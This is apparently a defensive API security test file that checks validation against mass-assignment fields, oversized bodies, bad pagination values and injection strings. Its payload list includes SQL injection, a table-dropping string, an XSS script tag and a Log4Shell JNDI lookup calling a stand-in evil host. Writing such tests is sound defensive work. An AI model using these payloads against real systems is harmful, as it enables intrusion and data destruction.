import request from 'supertest';
import { createTestApi, TestApi, truncateAll } from './support/app';
import { permittedRole, TABLE } from './support/attack/route-table';
import {
  AttackWorld,
  buildWorld,
  call,
  fetchOpenApi,
  operations,
  OpenApiDocument,
  OpenApiOperation,
  RoleName,
} from './support/attack/world';
import { testEnv } from './support/test-env';

// Above the 10k-character injection string, so that one reaches validation; the oversized bodies are twice this.
const BODY_LIMIT = 16_384;
const MASS_FIELDS = [
  'id',
  'ownerId',
  'userId',
  'role',
  'status',
  'regionId',
  'emailVerifiedAt',
  'isAdmin',
  'score',
];
const INJECTIONS = [
  `' OR 1=1 --`,
  `"; DROP TABLE users; --`,
  `<script>alert(1)</script>`,
  '${jndi:ldap://evil.example/a}',
  'A'.repeat(10_000),
  'nul\u0000byte',
];

type Op = { key: string; method: string; path: string; op: OpenApiOperation };

describe('attack: mass assignment, oversized bodies, page sizes, injection strings', () => {
  let api: TestApi;
  let world: AttackWorld;
  let doc: OpenApiDocument;
  let ops: Op[];

  beforeAll(async () => {
    api = await createTestApi(
      testEnv({ QUEUE_PREFIX: 'pmattack-inputs', BODY_LIMIT_BYTES: String(BODY_LIMIT) }),
    );
    await truncateAll(api.dataSource);
    world = await buildWorld(api);
    doc = await fetchOpenApi(api);
    ops = operations(doc);
  });
  afterAll(async () => {
    await api.close();
  });

  const urlOf = (o: Op): string => TABLE[o.key]?.url?.(world) ?? o.path;
  const roleOf = (o: Op): RoleName => permittedRole(o.key) ?? 'anonymous';
  /** The schema of a write body: its own properties, and whether the body is an array of them. */
  function bodySchema(o: Op): { props: Record<string, { type?: string }>; array: boolean } | undefined {
    const schema = o.op.requestBody?.content['application/json']?.schema;
    if (!schema) return undefined;
    const ref = schema.$ref ?? schema.items?.$ref;
    if (!ref) return undefined;
    const name = ref.split('/').pop()!;
    return { props: doc.components.schemas[name].properties ?? {}, array: schema.type === 'array' };
  }
  const writeOps = (): Op[] =>
    ops.filter((o) => ['POST', 'PUT', 'PATCH'].includes(o.method) && bodySchema(o));

  it('finds the write DTOs and paginated collections it attacks', () => {
    expect(writeOps().length).toBeGreaterThan(20);
    expect(ops.filter((o) => o.op.parameters?.some((p) => p.name === 'pageSize')).length).toBeGreaterThan(4);
  });

  it('rejects extra fields on every write DTO with 400 VALIDATION.FAILED naming each field', async () => {
    const failures: string[] = [];
    for (const o of writeOps()) {
      const schema = bodySchema(o)!;
      const extra = Object.fromEntries(
        MASS_FIELDS.filter((f) => !(f in schema.props)).map((f) => [f, f === 'isAdmin' ? true : 'forged']),
      );
      const base = TABLE[o.key]?.body?.(world);
      const item = { ...(Array.isArray(base) ? base[0] : (base ?? {})), ...extra } as Record<string, unknown>;
      const res = await call(api, world, roleOf(o), o.method, urlOf(o), schema.array ? [item] : item);
      const fields = JSON.stringify(res.body?.details ?? []);
      const unnamed = Object.keys(extra).filter(
        (f) => !fields.includes(`"${f}"`) && !fields.includes(`.${f}"`),
      );
      if (res.status !== 400 || res.body?.code !== 'VALIDATION.FAILED' || unnamed.length) {
        failures.push(
          `${o.key} as ${roleOf(o)}: ${res.status} ${res.body?.code} unnamed=[${unnamed.join(',')}]`,
        );
      }
    }
    expect(failures).toEqual([]);
  });

  it.each([
    ['POST', '/api/auth/register', 'anonymous'],
    ['PATCH', '/api/me', 'starter'],
    ['PUT', '/api/starter-profile', 'starter'],
    ['POST', '/api/practices', 'stopper'],
    ['POST', '/api/events', 'coordinatorA'],
  ] as Array<[string, string, RoleName]>)(
    'refuses an oversized body on %s %s with 413',
    async (method, url, role) => {
      const res = await call(api, world, role, method, url, { about: 'x'.repeat(BODY_LIMIT * 2) });
      expect(res.status).toBe(413);
      expect(res.body.statusCode).toBe(413);
    },
  );

  it.each([
    ['pageSize=1000'],
    ['pageSize=101'],
    ['pageSize=-1'],
    ['pageSize=0'],
    ['pageSize=abc'],
    ['page=0'],
    ['page=-5'],
    ['page=abc'],
    ['pageSize=1e3'],
  ])('refuses %s on every paginated collection with 400', async (query) => {
    const failures: string[] = [];
    for (const o of ops.filter(
      (x) => x.method === 'GET' && x.op.parameters?.some((p) => p.name === 'pageSize'),
    )) {
      const res = await call(api, world, roleOf(o), 'GET', `${urlOf(o)}?${query}`);
      if (res.status !== 400 || res.body?.code !== 'VALIDATION.FAILED') {
        failures.push(`${o.key} as ${roleOf(o)}: ${res.status} ${res.body?.code}`);
      }
    }
    expect(failures).toEqual([]);
  });

  describe('injection strings', () => {
    let usersBefore: number;
    beforeAll(async () => {
      usersBefore = Number((await api.dataSource.query(`SELECT count(*) AS n FROM users`))[0].n);
    });
    afterAll(async () => {
      // The database is intact: the tables are there and the attack added or removed no account.
      const [row] = await api.dataSource.query(
        `SELECT to_regclass('public.users') AS t, (SELECT count(*) FROM users) AS n`,
      );
      expect(row.t).toBe('users');
      expect(Number(row.n)).toBe(usersBefore);
    });

    const TARGETS: Array<[string, RoleName]> = [
      ['PATCH /api/me', 'starter'],
      ['PATCH /api/practices/{id}', 'coordinatorA'],
      ['POST /api/events', 'coordinatorA'],
      ['POST /api/auth/register', 'anonymous'],
      ['POST /api/admin/regions', 'admin'],
      ['POST /api/matches/{id}/reject', 'coordinatorA'],
      ['POST /api/auth/login', 'anonymous'],
    ];
    it.each(TARGETS)('never answers 500 to injections in the text fields of %s', async (key, role) => {
      const o = ops.find((x) => x.key === key);
      expect(o).toBeDefined();
      const schema = bodySchema(o!)!;
      const textFields = Object.entries(schema.props)
        .filter(([, p]) => p.type === 'string')
        .map(([f]) => f);
      expect(textFields.length).toBeGreaterThan(0);
      const failures: string[] = [];
      for (const field of textFields) {
        for (const payload of INJECTIONS) {
          // register: no role field, so no account is ever created by the attack.
          const base = key === 'POST /api/auth/register' ? {} : ((TABLE[key]?.body?.(world) ?? {}));
          const res = await call(api, world, role, o!.method, urlOf(o!), { ...base, [field]: payload });
          if (res.status >= 500 || res.status === 413) {
            failures.push(
              `${field}=${JSON.stringify(payload.slice(0, 20))}: ${res.status} ${res.body?.code}`,
            );
          }
        }
      }
      expect(failures).toEqual([]);
    });

    it('never answers 500 to injections in any query or path parameter of a GET route', async () => {
      const failures: string[] = [];
      for (const o of ops.filter((x) => x.method === 'GET')) {
        const role = roleOf(o);
        for (const p of o.op.parameters ?? []) {
          if (p.in !== 'query' && p.in !== 'path') continue;
          for (const payload of INJECTIONS) {
            const v = encodeURIComponent(payload);
            const url =
              p.in === 'path'
                ? o.path.replace(`{${p.name}}`, v).replace(/\{[^}]+\}/g, world.regionA)
                : `${urlOf(o)}${urlOf(o).includes('?') ? '&' : '?'}${p.name}=${v}`;
            const res = await call(api, world, role, 'GET', url);
            if (res.status >= 500)
              failures.push(
                `${o.key} ${p.in}:${p.name}=${JSON.stringify(payload.slice(0, 20))}: ${res.status}`,
              );
          }
        }
      }
      expect(failures).toEqual([]);
    });

    it('never answers 500 to an injected Accept-Language or X-Request-Id header', async () => {
      for (const payload of INJECTIONS.filter((p) => !p.includes('\u0000'))) {
        const res = await request(api.app.getHttpServer())
          .get('/api/matches')
          .set('Authorization', `Bearer ${world.users.coordinatorA.accessToken}`)
          .set('Accept-Language', payload.slice(0, 4000))
          .set('X-Request-Id', payload.slice(0, 4000));
        expect(res.status).toBeLessThan(500);
        expect(res.headers['x-request-id']).not.toBe(payload.slice(0, 4000));
      }
    });
  });
});
